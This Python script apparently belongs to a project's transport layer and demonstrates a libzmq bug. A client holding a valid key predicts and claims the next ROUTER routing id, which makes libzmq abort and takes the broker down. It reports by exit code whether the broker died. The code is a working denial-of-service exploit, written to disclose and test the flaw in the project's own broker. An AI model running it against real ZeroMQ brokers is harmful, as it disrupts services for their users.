"""A holder of a valid key who stops the broker: a bug of libzmq, by which no broker of ours may lose
more than the moment until its parent has started it again.

A ROUTER gives its peers numbers, each one more than the last. Who takes the next number as a routing
id of his own leaves it none to give: libzmq aborts when the next peer comes. ::

    python abort_by_key_holder.py < JOIN_STRING [NEXT_ID]

The id, in hexadecimal, is by default the one that the first peer gets in a process that has made two
ROUTERs, as a broker does, and has not made its numbers unpredictable, as `open_listener` does. Ends
with status 0 when the broker is gone, with 1 if it still serves.
"""

import secrets
import sys
import time

import zmq

from maelstrom_core.transport.join_plan import Join, parse_join
from maelstrom_core.transport.keys import pair_of
from maelstrom_core.transport.limits import Limits
from maelstrom_core.transport.options import client_socket

_PATIENCE_SECONDS, _ABORTING_SECONDS = 30.0, 2.0
_HEAD_START_SECONDS = 0.3


def predicted() -> bytes:
    """The routing id that the first peer of the second ROUTER of a process gets."""
    context: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
    context.socket(zmq.ROUTER)
    router, dealer = context.socket(zmq.ROUTER), context.socket(zmq.DEALER)
    address = f"inproc://{secrets.token_hex(8)}"
    router.bind(address)
    dealer.connect(address)
    dealer.send(b"which am I?")
    routing_id = router.recv()
    context.destroy(linger=0)
    return routing_id


def attack(join: Join, routing_id: bytes) -> bool:
    """Take this routing id, then come as somebody else.

    :return: whether the broker is gone
    """
    context: zmq.Context[zmq.Socket[bytes]] = zmq.Context()
    thief, seen_by_thief = _connected(context, join, routing_id)
    thief.sndtimeo = round(_PATIENCE_SECONDS * 1000)
    thief.send(b"I am here")
    time.sleep(_HEAD_START_SECONDS)
    # Kept: a socket that nobody knows of any more closes itself.
    next_one, seen_by_next = _connected(context, join)
    until, is_gone = time.monotonic() + _PATIENCE_SECONDS, False
    while time.monotonic() < until and not is_gone:
        is_gone = zmq.EVENT_DISCONNECTED in _events(seen_by_thief)
        if zmq.EVENT_HANDSHAKE_SUCCEEDED in _events(seen_by_next):
            until = min(until, time.monotonic() + _ABORTING_SECONDS)
    thief.close()
    next_one.close()
    context.destroy(linger=0)
    return is_gone


def _connected(
    context: "zmq.Context[zmq.Socket[bytes]]", join: Join, routing_id: bytes = b""
) -> tuple["zmq.Socket[bytes]", "zmq.Socket[bytes]"]:
    socket = client_socket(context, pair_of(join.secret_key), join.broker_key, Limits())
    if routing_id:
        socket.setsockopt(zmq.ROUTING_ID, routing_id)
    monitor = socket.get_monitor_socket(zmq.EVENT_HANDSHAKE_SUCCEEDED | zmq.EVENT_DISCONNECTED)
    socket.connect(f"tcp://{join.address}")
    return socket, monitor


def _events(monitor: "zmq.Socket[bytes]") -> set[int]:
    kinds = set()
    while monitor.poll(20):
        kinds.add(int.from_bytes(monitor.recv_multipart()[0][:2], sys.byteorder))
    return kinds


def main() -> int:
    join = parse_join(sys.stdin.read())
    own_id = bytes.fromhex(sys.argv[1]) if len(sys.argv) > 1 else predicted()
    return 0 if attack(join, own_id) else 1


if __name__ == "__main__":
    sys.exit(main())
